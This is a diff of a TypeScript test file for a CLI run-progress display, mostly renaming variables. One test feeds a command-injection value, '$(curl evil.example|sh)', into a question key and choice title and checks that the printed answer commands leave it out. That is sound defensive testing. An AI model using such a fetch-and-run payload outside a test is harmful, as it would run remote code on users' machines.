@@ -52,8 +52,8 @@ test('a completed step is one line: mark, number, title, duration, short output'
 test('an attempt that is followed by another one is a line, and the next one is waited for', () => {
   const run = progress();
   const ref = { step: 3, path: 'log_in', id: 'log_in' };
-  const begin = { ...ref, action: 'click', title: 'Log in', summary: '' } as const;
-  run.update(numbered(createEvent('step.started', 'Log in', begin, at)));
+  const startData = { ...ref, action: 'click', title: 'Log in', summary: '' } as const;
+  run.update(numbered(createEvent('step.started', 'Log in', startData, at)));
   const more = {
     attempt: 1,
     maxAttempts: 3,
@@ -85,13 +85,13 @@ test('where control flow decides how many steps there are, a line says where its
   run.update(queued());
   const title = 'Read';
   const at = (step: number, path?: string) => ({ step, ...(path !== undefined && { path }), id: null });
-  const begin = (place: { step: number; id: null }) =>
-    numbered(createEvent('step.started', title, { ...place, action: 'click', title, summary: title }, new Date(0)));
+  const startEvent = (ref: { step: number; id: null }) =>
+    numbered(createEvent('step.started', title, { ...ref, action: 'click', title, summary: title }, new Date(0)));
   const outcome = { tier: 'replay' as const, durationMs: 840, located: null, page: null };
-  const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((place) => {
-    run.update(begin(place));
+  const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((ref) => {
+    run.update(startEvent(ref));
     const [line = ''] = run.update(
-      numbered(createEvent('step.completed', 'done', { ...place, ...outcome }, new Date(0))),
+      numbered(createEvent('step.completed', 'done', { ...ref, ...outcome }, new Date(0))),
     ).lines;
     return line.split(/ +/)[1];
   });
@@ -146,8 +146,8 @@ test('a question is shown with the commands that answer it', () => {
     ],
     expiresAt: at.toISOString(),
   };
-  const asked = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
-  expect(asked.lines).toEqual([
+  const update = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
+  expect(update.lines).toEqual([
     '? Step 5 may have happened before',
     '  npx pilothouse runs answer 0197f3c2-1a2b continue --question 2.4.0',
     '    It happened',
@@ -156,18 +156,18 @@ test('a question is shown with the commands that answer it', () => {
     '  npx pilothouse runs answer 0197f3c2-1a2b complete --question 2.4.0',
     '    Mark the run as completed',
   ]);
-  expect(asked.activity?.text).toBe('needs input');
+  expect(update.activity?.text).toBe('needs input');
   // Text of a worker is never on the line of a command.
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
   const hostile = { ...question, key: `0.0@${evil}`, choices };
-  const shown = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, at))).lines;
-  const commands = shown.filter((line) => line.includes('npx'));
+  const hostileLines = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, at))).lines;
+  const commands = hostileLines.filter((line) => line.includes('npx'));
   expect(commands).toEqual([
     '  npx pilothouse runs answer 0197f3c2-1a2b continue',
     '  npx pilothouse runs answer 0197f3c2-1a2b complete',
   ]);
-  expect(shown).toContain(`    ${evil}`);
+  expect(hostileLines).toContain(`    ${evil}`);
   const resumed = { answeredBy: 'Ada', choice: 'retry' as const, step: 4 };
   expect(run.update(numbered(createEvent('run.answered', 'Ada answered: retry', resumed, at))).lines).toEqual([
     '· Ada answered: retry',
